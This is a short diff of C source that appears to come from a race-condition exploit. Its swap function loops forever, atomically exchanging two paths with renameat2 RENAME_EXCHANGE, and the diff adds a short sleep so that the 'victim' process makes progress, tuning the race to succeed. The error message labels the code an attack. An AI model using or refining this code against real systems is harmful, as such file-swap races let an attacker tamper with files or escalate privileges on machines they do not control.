@@ -87,9 +87,11 @@ static void for_each_pid(void (*f)(const char *pid))
 static int swap(const char *a, const char *b)
 {
 	puts("swapping");
-	for (;;)
+	for (;;) {
 		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
 			return perror("attack: exchange"), 1;
+		usleep(30); /* without it the victim hardly ever gets anywhere */
+	}
 }
 
 /* --- write */
